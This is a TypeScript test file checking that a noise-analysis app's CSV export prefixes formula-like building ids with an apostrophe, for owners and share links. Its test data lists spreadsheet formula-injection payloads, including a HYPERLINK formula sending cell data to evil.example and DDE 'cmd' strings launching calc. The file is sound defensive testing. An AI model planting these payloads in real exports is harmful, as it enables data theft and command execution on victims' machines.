import { beforeAll, describe, expect, it } from "vitest";
import { call, ok, type TestUser } from "../../test/dashboard";
import { shareLink } from "../../test/results";
import { useTestApp } from "../../test/use-test-app";
import { offset, projectAt, rectangle, waitForStatus } from "../analysis/analysis.fixtures";
import { storedModel } from "../models/models.test-upload";

/**
 * Issue 22, F6: text cells of a CSV export that a spreadsheet would run as a formula (building ids of an
 * uploaded model here) start with `'`, for the owner and through a share link; numbers stay numbers, negative
 * ones too (the site is west of Greenwich so every longitude is negative).
 */
const FORMULA_IDS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"open")',
  "+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "＝1+1",
];
const PLAIN_ID = "bldg-plain";
const site = { lon: -0.1276, lat: 51.5072 };

let alice: TestUser;
let caseId: string;

/** A GeoJSON model: one 10 x 10 x 12 m building per id, in a row north of the noise source. */
function modelOf(ids: string[]): Buffer {
  return Buffer.from(
    JSON.stringify({
      type: "FeatureCollection",
      features: ids.map((id, i) => ({
        type: "Feature",
        properties: { gml_id: id, height: 12 },
        geometry: rectangle(site, -80 + i * 20, 20, -70 + i * 20, 30),
      })),
    }),
  );
}

/** The CSV's records (RFC 4180: a quoted field may hold commas, doubled quotes and line breaks). */
function records(csv: string): string[][] {
  const rows: string[][] = [[]];
  const field = /"((?:[^"]|"")*)"|([^,\r\n"]*)/y;
  for (let at = 0; at < csv.length;) {
    field.lastIndex = at;
    const match = field.exec(csv);
    const cell = match?.[1] !== undefined ? match[1].replace(/""/g, '"') : (match?.[2] ?? "");
    rows[rows.length - 1]?.push(cell);
    at = field.lastIndex;
    if (csv.startsWith("\r\n", at)) {
      rows.push([]);
      at += 2;
    } else at += 1; // the comma
  }
  return rows.filter((row) => row.length > 0);
}

const server = useTestApp({}, { worker: true });
beforeAll(async () => {
  alice = await server.signUp("premium");
  const projectId = await projectAt(server.app, alice, site);
  const model = await storedModel(
    server.app,
    alice,
    projectId,
    "ids.geojson",
    modelOf([...FORMULA_IDS, PLAIN_ID]),
  );
  const modelId = model.id;
  const { id } = await ok<{ id: string }>(server.app, alice, "POST", `/api/project/${projectId}/cases`, {
    service_type: "noise",
    name: "facades",
    parameters: {
      model_ids: [modelId],
      calculation_type: "facade",
      extent: {
        min_lon: offset(site, -100, -40)[0],
        min_lat: offset(site, -100, -40)[1],
        max_lon: offset(site, 100, 60)[0],
        max_lat: offset(site, 100, 60)[1],
        rotation: 0,
      },
      facade_spacing: 4,
      sources: [{ lon: offset(site, 0, -20)[0], lat: offset(site, 0, -20)[1], height: 1, lw: 100 }],
      receivers: [offset(site, 0, -10)],
    },
  });
  await ok(server.app, alice, "POST", `/api/cases/${id}/run`, undefined, 202);
  expect((await waitForStatus(server.app, alice, id, ["done", "error"])).status).toBe("done");
  caseId = id;
});

function expectEscaped(csv: Buffer) {
  const rows = records(csv.subarray(3).toString("utf8"));
  const facades = rows.filter((r) => r[0] === "facade");
  const buildings = new Set(facades.map((r) => r[5]));
  for (const id of FORMULA_IDS) expect(buildings, JSON.stringify(id)).toContain(`'${id}`);
  expect(buildings).toContain(PLAIN_ID);
  for (const cell of rows.slice(1).flatMap((r) => r.slice(1, 4)))
    expect(cell).toMatch(/^(-?\d+(\.\d+)?(e-?\d+)?)?$/);
  expect(facades.every((r) => Number(r[1]) < 0)).toBe(true);
}

describe("CSV export of building ids that look like formulas", () => {
  it("the owner's export prefixes them with ' and keeps numbers as numbers", async () => {
    const res = await call(server.app, alice, "GET", `/api/cases/${caseId}/export/csv`);
    expect(res.statusCode, res.body.slice(0, 300)).toBe(200);
    expectEscaped(res.rawPayload);
  });

  it("the share link's export does the same", async () => {
    const { url } = await shareLink(server.app, alice, caseId);
    const res = await call(server.app, null, "GET", `/api${url}/export/csv`);
    expect(res.statusCode, res.body.slice(0, 300)).toBe(200);
    expectEscaped(res.rawPayload);
  });
});
